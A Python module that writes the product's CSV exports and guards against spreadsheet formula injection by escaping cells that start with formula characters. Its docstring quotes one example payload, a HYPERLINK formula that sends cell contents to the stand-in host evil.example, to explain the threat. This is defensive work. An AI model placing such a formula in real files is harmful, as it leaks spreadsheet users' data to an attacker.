"""CSV text for a spreadsheet, the one writer of every CSV the product hands out
(the insights' ``Accept: text/csv`` and ``colearn insights ... --csv``, an
organisation's awards and pathway funnels).

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return before one) as a formula, so a name an organisation or
a badge was given (``=HYPERLINK("https://evil.example/?x="&A1,"Open report")``)
would run when the file is opened (OWASP, "CSV Injection"). Such a text cell is
written with a single quote before it (``'=HYPERLINK(...``), which the
spreadsheet shows as the text itself. Numbers stay numbers: an ``int`` or
``float`` (``-3``), and text that is a plain number (``-3``, ``+1.5``), are
written as they are.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

__all__ = ["FORMULA_START", "csv_text", "spreadsheet_cell"]

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as a spreadsheet may safely read it: a ``str`` starting with one of
    ``FORMULA_START`` (and not a plain number) gets a leading ``'``; anything else
    (numbers, other text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """CSV text: a header of ``columns``, then a line per row (a missing key or None is
    an empty cell), each text cell through ``spreadsheet_cell``; ``\\r\\n`` line ends
    (RFC 4180), so that a cell holding a carriage return or a line feed is quoted."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([spreadsheet_cell(c) for c in columns])
    for row in rows:
        writer.writerow(["" if row.get(c) is None else spreadsheet_cell(row.get(c)) for c in columns])
    return buf.getvalue()
